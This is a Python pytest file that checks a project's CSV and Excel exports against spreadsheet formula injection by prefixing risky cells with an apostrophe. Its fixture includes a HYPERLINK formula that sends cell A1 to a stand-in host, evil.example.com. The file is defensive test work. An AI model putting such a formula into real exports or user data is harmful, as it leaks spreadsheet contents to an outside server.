"""CSV downloads no spreadsheet reads as formulas: a text cell starting with = + - @, a tab or a
carriage return gets OWASP's leading apostrophe; the text after it is what the page shows."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pytest
import yaml
from lxml import html

from zongjie.excel.export import spreadsheet_safe

from .conftest import run_zongjie

NAMES = {
    "u0000": '=HYPERLINK("http://evil.example.com/?x="&A1,"点此")',
    "u0001": "+1-2 单位",
}
CAMPAIGN = "dangshi-2021"


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("=1+1", "'=1+1"), ("+86 单位", "'+86 单位"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("市文联", "市文联"),
        ("合计（2 个单位）", "合计（2 个单位）"), ("1=1", "1=1"), ("", ""),
    ],
)  # fmt: skip
def test_spreadsheet_safe(text: str, safe: str) -> None:
    assert spreadsheet_safe(text) == safe


def test_downloads_of_hostile_unit_names(tiny: Path) -> None:
    units_file = tiny / "data/units.yml"
    units = yaml.safe_load(units_file.read_text(encoding="utf-8"))
    for unit in units["units"]:
        unit["short_name"] = NAMES.get(unit["id"], unit["short_name"])
    units_file.write_text(yaml.safe_dump(units, allow_unicode=True, sort_keys=False), "utf-8")
    done = run_zongjie("build", "-q", cwd=tiny)
    assert done.returncode == 0, done.stdout + done.stderr
    folder = tiny / "site/campaigns" / CAMPAIGN
    page = html.parse(str(folder / "index.html"))
    shown = {
        " ".join(td.text_content().split())
        for td in page.xpath('//table[@data-zj="overview"]//tbody//tr/*[1]')
    }
    assert set(NAMES.values()) <= shown, shown
    for name in ("overview", "progress"):
        raw = (folder / f"{CAMPAIGN}-{name}.csv").read_bytes().decode("utf-8-sig")
        first = [row[0] for row in csv.reader(io.StringIO(raw))][1:]
        for text in NAMES.values():
            assert "'" + text in first, (name, first)
            assert text not in first
        for cell in first:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
        sheet = openpyxl.load_workbook(folder / f"{CAMPAIGN}-{name}.xlsx").worksheets[0]
        cells = [row[0] for row in sheet.iter_rows(min_col=1, max_col=1)]
        hostile = [c for c in cells if c.value in NAMES.values()]
        assert len(hostile) == len(NAMES), [c.value for c in cells]
        assert all(c.data_type == "s" for c in hostile)  # text, never a formula
